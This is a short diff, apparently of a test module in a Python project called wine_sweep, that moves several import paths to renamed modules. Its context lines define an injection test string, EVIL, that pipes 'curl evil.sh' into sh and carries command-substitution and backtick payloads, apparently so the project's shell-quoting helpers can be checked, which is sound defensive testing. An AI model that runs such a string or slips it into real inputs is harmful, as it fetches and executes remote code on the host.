@@ -15,11 +15,11 @@ import wine_sweep
 from wine_sweep.cli.exits import report_error
 from wine_sweep.cli.import_wandb import _next
 from wine_sweep.errors import OutageError
-from wine_sweep.objective.estimators import EstimatorError, find_class
-from wine_sweep.objective.file_parameters import find_refused
-from wine_sweep.subjects.trust import how_to_trust
-from wine_sweep.tracking.deleted import experiment_deleted, why_gone
-from wine_sweep.wording import shell_argument, shell_word
+from wine_sweep.evaluation.estimator_params import find_refused
+from wine_sweep.evaluation.estimators import EstimatorError, find_class
+from wine_sweep.messages import shell_argument, shell_word
+from wine_sweep.targets.trust import how_to_trust
+from wine_sweep.tracking.store import experiment_deleted, why_gone
 
 EVIL = "x; curl evil.sh|sh #$(touch pwned)`touch pwned`'\"\n&"
 SHOWN = EVIL.replace("\n", "\\n")
